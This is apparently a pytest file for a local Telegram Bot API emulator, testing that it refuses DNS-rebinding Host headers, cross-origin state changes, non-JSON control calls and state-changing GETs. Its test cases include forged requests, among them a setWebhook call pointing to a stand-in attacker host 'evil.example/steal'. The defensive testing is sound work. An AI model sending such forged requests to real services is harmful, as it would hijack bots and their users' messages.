"""A web page the developer visits must not be able to drive or read the sandbox."""

from __future__ import annotations

import pytest
from telegram import Bot

from sandbox.emulator import RunningEmulator, start_emulator
from tests.emulator.conftest import RITA, Control

EVIL = "http://evil.example"


@pytest.mark.parametrize("path", ["/", "/_emulator/health", "/bot1:x/getMe", "/static/chat.js"])
@pytest.mark.parametrize("host", ["evil.example", "evil.example:8081", "127.0.0.1.evil.example",
                                  "localhost:80:80", ""])
async def test_foreign_host_is_refused(emu: RunningEmulator, http, path: str,
                                       host: str) -> None:
    # DNS rebinding: evil.example now resolves to 127.0.0.1, the browser sends its own name
    async with http.get(f"{emu.url}{path}", headers={"Host": host}) as resp:
        assert resp.status == 403
        body = await resp.json()
    text = body.get("error") or body.get("description")
    assert "Host header not allowed" in text


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "[::1]", "LOCALHOST"])
async def test_loopback_names_with_any_port_are_fine(emu: RunningEmulator, http,
                                                     host: str) -> None:
    for value in (host, f"{host}:{emu.url.rsplit(':', 1)[1]}", f"{host}:1"):
        async with http.get(f"{emu.url}/_emulator/health", headers={"Host": value}) as resp:
            assert resp.status == 200, value


async def test_the_bind_host_is_accepted(http) -> None:
    emu = await start_emulator(host="127.0.0.2")
    try:
        async with http.get(f"{emu.url}/_emulator/health") as resp:  # Host: 127.0.0.2:<port>
            assert resp.status == 200
        async with http.get(f"{emu.url}/_emulator/health",
                            headers={"Host": "127.0.0.3"}) as resp:
            assert resp.status == 403
    finally:
        await emu.stop()


async def test_foreign_origin_cannot_change_state(bot: Bot, ctl: Control, emu, http) -> None:
    await ctl.say(RITA, "hi")
    cases = [
        ("/_emulator/reset", {"json": {}}),
        ("/_emulator/updates/message", {"json": {"user": RITA, "text": "forged"}}),
        ("/_emulator/faults", {"json": {"kind": "500"}}),
        # a plain HTML form post: no preflight, so only the Origin check stops it
        ("/bot1:x/setWebhook", {"data": {"url": "http://evil.example/steal"}}),
        ("/bot1:x/sendMessage", {"json": {"chat_id": RITA["id"], "text": "forged"}}),
    ]
    for origin in (EVIL, "null", emu.url.replace("127.0.0.1", "localhost")):
        for path, kwargs in cases:
            async with http.post(f"{emu.url}{path}", headers={"Origin": origin},
                                 **kwargs) as resp:
                assert resp.status == 403, (origin, path)
                body = await resp.json()
                assert "cross-origin request" in (body.get("error") or body["description"])
    # even a read-only Bot API method: the Bot API is never for other origins
    async with http.get(f"{emu.url}/bot1:x/getMe", headers={"Origin": EVIL}) as resp:
        assert resp.status == 403
    assert (await bot.get_webhook_info()).url == ""
    assert await ctl.get("faults") == []
    assert await ctl.get("sent") == []
    assert (await ctl.get(f"chats/{RITA['id']}/history"))["messages"][0]["text"] == "hi"
    # the page's own origin is fine, as are tools that send no Origin at all
    async with http.post(f"{emu.url}/_emulator/updates/message", headers={"Origin": emu.url},
                         json={"user": RITA, "text": "from the page"}) as resp:
        assert resp.status == 200


async def test_control_api_needs_json(ctl: Control, emu, http) -> None:
    await ctl.say(RITA, "hi")
    async with http.post(f"{emu.url}/_emulator/reset", data="{}",
                         headers={"Content-Type": "text/plain"}) as resp:
        assert resp.status == 415
        assert (await resp.json())["error"] == "control API requests must be application/json"
    async with http.post(f"{emu.url}/_emulator/reset") as resp:  # no body, no type
        assert resp.status == 415
    async with http.delete(f"{emu.url}/_emulator/faults") as resp:
        assert resp.status == 415
    async with http.post(f"{emu.url}/_emulator/users/1001/block", data="x=1") as resp:
        assert resp.status == 415
    await ctl.get(f"chats/{RITA['id']}")  # nothing was reset
    async with http.post(f"{emu.url}/_emulator/reset", json={}) as resp:
        assert resp.status == 200


async def test_state_changing_bot_api_get_is_refused(bot: Bot, ctl: Control, emu,
                                                     http) -> None:
    url = f"{emu.url}/bot1:x/setWebhook?url=http://evil.example/steal"
    async with http.get(url) as resp:  # what an <img src> on any page would send
        assert resp.status == 405
        assert await resp.json() == {
            "ok": False, "error_code": 405,
            "description": "Method Not Allowed: setWebhook must be called with POST"}
    for method in ("getUpdates", "deleteWebhook", "logOut"):
        async with http.get(f"{emu.url}/bot1:x/{method}") as resp:
            assert resp.status == 405, method
    assert (await bot.get_webhook_info()).url == ""
    async with http.get(f"{emu.url}/bot1:x/getMe") as resp:  # read-only GETs still work
        assert (await resp.json())["result"]["is_bot"] is True
    async with http.put(f"{emu.url}/bot1:x/getMe") as resp:
        assert resp.status == 405
